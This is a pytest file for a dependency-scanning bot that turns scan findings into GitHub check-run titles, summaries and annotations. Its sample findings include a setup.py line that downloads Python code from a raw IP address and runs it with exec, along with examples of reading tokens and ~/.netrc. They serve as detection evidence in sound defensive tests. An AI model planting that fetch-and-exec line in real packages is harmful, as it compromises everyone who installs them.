"""Check-run output: title, summary, text, annotations and GitHub's limits."""

from __future__ import annotations

import dataclasses

import pytest
from hypothesis import HealthCheck, given, settings

from bot.model import (
    Action,
    Alert,
    AlertType,
    ChangeKind,
    Location,
    PackageResult,
    ScanResult,
    Verdict,
    canonicalize_name,
)
from bot.report.checks import (
    MAX_ANNOTATION_BYTES,
    MAX_OUTPUT_CHARS,
    MAX_TITLE_CHARS,
    Annotation,
    AnnotationLevel,
    annotation_batches,
    conclusion_for,
    output_payload,
    render_check_run,
)
from bot.report.text import render_text

from .samples import alert, scan_results


def test_realistic_output(result: ScanResult) -> None:
    output = render_check_run(result)
    assert output.title == "1 blocking, 2 warnings (analysis incomplete)"
    assert output.summary == (
        "**1 blocking, 2 warnings in 4 changed dependencies (analysis incomplete for 1)**\n\n"
        "**Analysis incomplete** — capdiff could not read everything, so these packages may "
        "bring behaviour this report does not show:\n"
        "- **httpcore** `1.0.5`: the wheel is over the 50 MB download limit\n"
        "- advisory database unreachable: timed out after 10 s\n\n"
        "| package | change | new in this release |\n"
        "|---|---|---|\n"
        # Every changed package, most severe first.
        "| **fastjsonx** | added `1.0.2` | ⛔ `typosquat`, ⛔ `install-network` |\n"
        "| **tqdm** | `4.66.1` → `4.66.4` | ⚠️ `env-secrets`, ℹ️ `fresh-release` |\n"
        "| **httpcore** | added `1.0.5` (via **httpx**) | ⚠️ `network`, ❔ analysis incomplete |\n"
        "| **requests** | `2.31.0` → `2.32.3` | nothing new |"
    )
    # Every finding, monitor-level included: one section per package, strongest first.
    summaries = [line for line in output.text.splitlines() if line.startswith("<details>")]
    assert summaries == [
        "<details><summary>⛔ fastjsonx 1.0.2 — typosquat, install-network</summary>",
        "<details><summary>⚠️ tqdm 4.66.4 — env-secrets, fresh-release</summary>",
        "<details><summary>⚠️ httpcore 1.0.5 — network</summary>",
    ]
    assert (
        "<details><summary>⚠️ tqdm 4.66.4 — env-secrets, fresh-release</summary>\n\n"
        "⚠️ **`env-secrets`** in `tqdm/contrib/slack.py:41` — Reads SLACK\\_TOKEN from the "
        "environment; 4.66.1 did not.\n"
        '```python\ntoken = os.environ["SLACK_TOKEN"]\n```\n\n'
        "ℹ️ **`fresh-release`** — Published 2 days ago.\n\n"
        "Accept (needs write access): `@capdiff ignore tqdm@4.66.4 env-secrets fresh-release`\n"
        "</details>\n"
    ) in output.text


    assert output.annotations == (
        Annotation(
            path="requirements.txt",
            start_line=7,
            end_line=7,
            level=AnnotationLevel.FAILURE,
            title="capdiff: fastjsonx 1.0.2 — typosquat, install-network",
            message="fastjsonx 1.0.2: typosquat (block): The name imitates fastjsonschema, a "
            "popular project.; install-network (block): Installing this package downloads and "
            "runs code from a raw IP address.",
            raw_details="[typosquat]\nThe name imitates fastjsonschema, a popular project.\n\n"
            "[install-network] setup.py:14\n"
            "data = urllib.request.urlopen('http://203.0.113.7/i.py').read()\nexec(data)",
        ),
        Annotation(
            path="requirements.txt",
            start_line=9,
            end_line=9,
            level=AnnotationLevel.WARNING,
            title="capdiff: tqdm 4.66.4 — env-secrets, fresh-release",
            message="tqdm 4.66.4: env-secrets (warn): Reads SLACK_TOKEN from the environment; "
            "4.66.1 did not.; fresh-release (monitor): Published 2 days ago.",
            raw_details='[env-secrets] tqdm/contrib/slack.py:41\ntoken = os.environ["SLACK_TOKEN"]'
            "\n\n[fresh-release]\nPublished 2 days ago.",
        ),
        Annotation(
            path="requirements.txt",
            start_line=5,
            end_line=5,
            level=AnnotationLevel.WARNING,
            title="capdiff: httpcore 1.0.5 — network, analysis incomplete",
            message="httpcore 1.0.5: network (warn): Opens network connections.; analysis "
            "incomplete: the wheel is over the 50 MB download limit",
            raw_details="[network] httpcore/_backends/sync.py:12\n"
            "sock = socket.create_connection(address, timeout)",
        ),
    )


def package(
    name: str, *actions: Action, locations: tuple[Location, ...] = (), reasons: tuple[str, ...] = ()
) -> PackageResult:
    return PackageResult(
        name=canonicalize_name(name),
        change=ChangeKind.ADDED,
        old_version=None,
        new_version="1.0",
        alerts=tuple(
            alert(name, "1.0", AlertType.NETWORK, action, "opens sockets") for action in actions
        ),
        locations=locations or (Location(path="requirements.txt", line=1),),
        incomplete_reasons=reasons,
    )


def scan(*packages: PackageResult, verdict: Verdict = Verdict.PASS) -> ScanResult:
    return ScanResult(packages=packages, manifests=("requirements.txt",), verdict=verdict)


def test_the_check_run_text_shows_every_place() -> None:
    alerts = tuple(
        alert("big", "2.0", AlertType.SHELL, Action.WARN, f"Starts `tool{i}`.",
              file=f"big/m{i % 2}.py", line=i, evidence=f"run({i})")
        for i in range(1, 24)
    )
    package = PackageResult(name=canonicalize_name("big"), change=ChangeKind.UPGRADED,
                            old_version="1.0", new_version="2.0", alerts=alerts)
    text = render_check_run(
        ScanResult(packages=(package,), manifests=(), verdict=Verdict.PASS)).text
    assert text.startswith(
        "<details><summary>⚠️ big 2.0 — shell</summary>\n\n"
        "⚠️ **`shell`** in 2 files:\n"
        "1. `big/m1.py:1`: Starts `tool1`.\n```python\nrun(1)\n```\n"
        "2. `big/m0.py:2`: Starts `tool2`.\n```python\nrun(2)\n```\n"
    )
    assert "20. `big/m0.py:20`: Starts `tool20`." in text
    assert "\n… and 3 more\n\nAccept (needs write access): " in text


def test_levels_follow_the_strongest_action() -> None:
    output = render_check_run(
        scan(
            package("a", Action.WARN, Action.BLOCK),
            package("b", Action.MONITOR, Action.WARN),
            package("c", Action.MONITOR),
            package("d", reasons=("sdist unreadable",)),
            package("e"),
        )
    )
    assert [(a.title, a.level) for a in output.annotations] == [
        ("capdiff: a 1.0 — network", AnnotationLevel.FAILURE),
        ("capdiff: b 1.0 — network", AnnotationLevel.WARNING),
        ("capdiff: c 1.0 — network", AnnotationLevel.NOTICE),
        ("capdiff: d 1.0 — analysis incomplete", AnnotationLevel.NOTICE),
    ]


def test_one_annotation_per_location_and_unknown_lines_go_to_line_1() -> None:
    locations = (
        Location(path="requirements.txt", line=4),
        Location(path="requirements.txt", line=4),
        Location(path="uv.lock", line=None),
    )
    output = render_check_run(scan(package("a", Action.WARN, locations=locations)))
    assert [(a.path, a.start_line, a.end_line) for a in output.annotations] == [
        ("requirements.txt", 4, 4),
        ("uv.lock", 1, 1),
    ]


@pytest.mark.parametrize(
    ("result", "title"),
    [
        (scan(package("a")), "No new risky behaviour"),
        (scan(package("a", Action.MONITOR)), "No new risky behaviour"),
        (scan(package("a", reasons=("x",)), verdict=Verdict.INCOMPLETE), "Analysis incomplete"),
        (scan(package("a", Action.WARN), package("b", Action.WARN)), "2 warnings"),
    ],
)
def test_titles(result: ScanResult, title: str) -> None:
    assert render_check_run(result).title == title


def test_nothing_to_report() -> None:
    output = render_check_run(scan())
    assert output == render_check_run(scan())
    assert output.text == "Nothing new to report."
    assert output.annotations == ()


def test_conclusions() -> None:
    assert [conclusion_for(verdict) for verdict in Verdict] == ["success", "failure", "neutral"]


def test_batches_of_fifty() -> None:
    annotations = render_check_run(
        scan(*(package(f"p{i}", Action.WARN) for i in range(120)))
    ).annotations
    batches = annotation_batches(annotations)
    assert [len(batch) for batch in batches] == [50, 50, 20]
    assert [a for batch in batches for a in batch] == list(annotations)
    assert annotation_batches([]) == []
    with pytest.raises(ValueError, match="positive"):
        annotation_batches(annotations, size=0)


def test_limits_hold_for_huge_results() -> None:
    evidence = "x = 'é' * 10\n" * 2000
    big = [
        PackageResult(
            name=canonicalize_name(f"package-{i}"),
            change=ChangeKind.UPGRADED,
            old_version="1.0",
            new_version="2.0" + "0" * 300,
            alerts=tuple(
                alert(
                    f"package-{i}",
                    "2.0",
                    alert_type,
                    Action.WARN,
                    "m" * 5000,
                    file="f.py",
                    line=1,
                    evidence=evidence,
                )
                for alert_type in AlertType
            ),
            locations=(Location(path="requirements.txt", line=i + 1),),
        )
        for i in range(60)
    ]
    output = render_check_run(scan(*big))
    assert len(output.summary) <= MAX_OUTPUT_CHARS
    assert len(output.text) <= MAX_OUTPUT_CHARS
    assert output.summary.endswith("more packages not shown (output limit)")
    assert output.text.endswith("more packages not shown (output limit)")
    # One noisy package cannot crowd the others out of the text: each gets at most 16,000
    # characters (fewer places, then only the alert types that fit, the rest named).
    assert output.text.count("<details>") >= 4
    assert output.text.count("<details>") == output.text.count("</details>")
    assert "more alert types not shown here: " in output.text
    for annotation in output.annotations:
        assert len(annotation.title) <= MAX_TITLE_CHARS
        assert len(annotation.message.encode()) <= MAX_ANNOTATION_BYTES
        assert len(annotation.raw_details.encode()) <= MAX_ANNOTATION_BYTES


def test_payloads(result: ScanResult) -> None:
    output = render_check_run(result)
    first = output_payload(output, output.annotations[:1])
    assert first == {
        "title": output.title,
        "summary": output.summary,
        "text": output.text,
        "annotations": [
            {
                "path": "requirements.txt",
                "start_line": 7,
                "end_line": 7,
                "annotation_level": "failure",
                "title": "capdiff: fastjsonx 1.0.2 — typosquat, install-network",
                "message": output.annotations[0].message,
                "raw_details": output.annotations[0].raw_details,
            }
        ],
    }
    with pytest.raises(ValueError, match="at most 50"):
        output_payload(output, output.annotations * 17)


def test_notes_go_at_the_top_of_the_summary(result: ScanResult) -> None:
    summary = render_check_run(result, notes=["rule @x expired"]).summary
    assert summary.startswith(
        "**1 blocking, 2 warnings in 4 changed dependencies (analysis incomplete for 1)**\n\n"
        "- rule @\u200bx expired\n\n**Analysis incomplete**"
    )


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(result=scan_results)
def test_outputs_stay_within_limits(result: ScanResult) -> None:
    output = render_check_run(result)
    assert len(output.title) <= MAX_TITLE_CHARS
    assert len(output.summary) <= MAX_OUTPUT_CHARS
    assert len(output.text) <= MAX_OUTPUT_CHARS
    for annotation in output.annotations:
        assert annotation.start_line >= 1
        assert len(annotation.title) <= MAX_TITLE_CHARS
        assert len(annotation.message.encode()) <= MAX_ANNOTATION_BYTES
    assert "\x1b" not in render_text(result)


def hijack_like(*extra: Alert) -> PackageResult:
    maintainer = alert(
        "leftpad", "2.0", AlertType.NEW_MAINTAINER, Action.WARN,
        "leftpad 2.0 names none of the authors/maintainers of 1.0: now mallory, before alice.",
    )
    return PackageResult(
        name=canonicalize_name("leftpad"),
        change=ChangeKind.UPGRADED,
        old_version="1.0",
        new_version="2.0",
        alerts=(maintainer, *extra),
        locations=(Location(path="requirements.txt", line=1),),
    )


def test_a_maintainer_change_beside_new_behaviour_is_raised_to_the_summary() -> None:
    network = alert("leftpad", "2.0", AlertType.NETWORK, Action.MONITOR, "opens sockets")
    threat = alert("leftpad", "2.0", AlertType.EXFILTRATION, Action.BLOCK, "posts secrets")
    summary = render_check_run(scan(hijack_like(network, threat))).summary
    assert summary.startswith(
        "**1 blocking in 1 changed dependency**\n\n"
        "- leftpad 2.0 names none of the earlier release's authors or maintainers and brings "
        "new exfiltration, network: check who published it.\n\n| package |"
    )
    # Alone, or beside metadata signals only, it stays a warning in the table.
    fresh = alert("leftpad", "2.0", AlertType.FRESH_RELEASE, Action.MONITOR, "published today")
    for quiet in (hijack_like(), hijack_like(fresh)):
        assert "check who published it" not in render_check_run(scan(quiet)).summary


def test_reputation_that_set_an_action_is_shown() -> None:
    moved = dataclasses.replace(
        alert("requests", "2.32.3", AlertType.SENSITIVE_READ, Action.MONITOR, "reads ~/.netrc"),
        adjusted_by="established: #7 most downloaded",
    )
    added = PackageResult(
        name=canonicalize_name("requests"),
        change=ChangeKind.ADDED,
        old_version=None,
        new_version="2.32.3",
        alerts=(moved,),
        locations=(Location(path="requirements.txt", line=3),),
    )
    output = render_check_run(scan(added))
    note = "monitor because the project is established: #7 most downloaded"
    # (Markdown-escaped in the check run's text.)
    assert "Action: monitor because the project is established: \\#7 most downloaded.\n" in (
        output.text
    )
    (annotation,) = output.annotations
    assert annotation.message == f"requests 2.32.3: sensitive-read ({note}): reads ~/.netrc"
    assert render_text(scan(added)) == (
        "1 changed dependency (requirements.txt)\n"
        f"  ·  requests 2.32.3 (added)  sensitive-read: reads ~/.netrc ({note})\n"
        "no blocking findings — exit 0\n"
    )
